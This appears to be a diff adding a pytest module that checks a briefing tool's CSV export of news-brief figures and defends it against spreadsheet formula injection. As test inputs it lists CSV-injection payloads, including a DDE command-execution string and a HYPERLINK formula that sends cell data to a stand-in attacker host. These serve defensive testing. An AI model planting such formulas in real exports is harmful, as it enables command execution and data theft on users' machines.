@@ -1,0 +1,124 @@
+"""The figures of a brief as CSV: each with whose it is and where it stands, and no cell a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+
+from briefing.exports import ExportFormat, export
+from briefing.exports.table import COLUMNS
+from briefing.models import Brief, Figure
+from tests.exports.words import saying
+from tests.render.factory import flood, ridge
+from tests.render.hostile import STRINGS
+
+OBEYED = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "-",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\u00a0=1",
+    "\u200b=1",
+    "\ufeff=1",
+    "\x00=1",
+    "\x1b=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+)
+
+
+def rows(brief: Brief) -> list[dict[str, str]]:
+    table = list(csv.reader(io.StringIO(export(brief, ExportFormat.CSV), newline=""), strict=True))
+    assert tuple(table[0]) == COLUMNS
+    assert all(len(row) == len(COLUMNS) for row in table)
+    return [dict(zip(COLUMNS, row, strict=True)) for row in table[1:]]
+
+
+def test_each_figure_is_a_row_with_whose_it_is_and_where_it_stands():
+    made = ridge()
+    found = rows(made)
+    assert [(row["section"], row["id"], row["as_written"]) for row in found] == [
+        ("forces", "f2", "some 900 fighters"),
+        ("bottom_line", "b1", "four days"),
+        ("obstacles", "o1", "6 to 8 kilometres"),
+        ("outcomes", "u1", "14"),
+        ("outcomes", "u2", "at least 40"),
+        ("outcomes", "u4", "about an hour"),
+        ("outcomes", "u5", "Between 1,200 and 1,500"),
+    ]
+    assert found[6] == {
+        "brief_id": made.id,
+        "article_id": made.article.id,
+        "article_title": made.article.title,
+        "article_url": made.article.url,
+        "published_at": made.article.published_at,
+        "section": "outcomes",
+        "id": "u5",
+        "statement": "Lantern says 1,200 to 1,500 people have left the upper villages.",
+        "speaker": "Lantern",
+        "speaker_kind": "organisation",
+        "commitment": "reported",
+        "as_written": "Between 1,200 and 1,500",
+        "value": "",
+        "low": "1200",
+        "high": "1500",
+        "unit": "",
+        "of": "people who left",
+        "approximate": "false",
+        "sentence": "13",
+        "quote": made.article.text[slice(*_span(made, 13))],
+    }
+
+
+def _span(brief: Brief, number: int) -> tuple[int, int]:
+    sentence = brief.article.sentences[number - 1]
+    return sentence.start, sentence.end
+
+
+def test_a_figure_is_cited_by_the_sentence_that_has_it():
+    (row,) = (row for row in rows(ridge()) if row["as_written"] == "some 900 fighters")
+    assert row["sentence"] == "15"
+
+
+def test_a_brief_without_figures_is_a_table_without_rows():
+    assert rows(flood()) == []
+
+
+@pytest.mark.parametrize(
+    ("number", "written"), [(240, "240"), (-3.5, "-3.5"), (0.1, "0.1"), (1e21, "1e+21"), (10**18, "1" + "0" * 18)]
+)
+def test_a_number_is_written_as_one(number, written):
+    made = ridge()
+    figure = Figure(as_written="x", value=number)
+    force = made.forces[0].model_copy(update={"strength": (figure,)})
+    first = rows(made.model_copy(update={"forces": (force,)}))[0]
+    assert first["value"] == written
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *STRINGS], ids=range(len(FORMULAS) + len(STRINGS)))
+def test_no_cell_begins_a_formula_or_holds_what_a_terminal_obeys(text):
+    found = rows(saying(text))
+    assert len(found) == 8
+    for row in found:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), column
+            assert not OBEYED.search(cell), column
+
+
+def test_rows_end_as_the_standard_has_it():
+    text = export(ridge(), ExportFormat.CSV)
+    assert text.endswith("\r\n")
+    assert text.count("\n") == text.count("\r\n") == 8
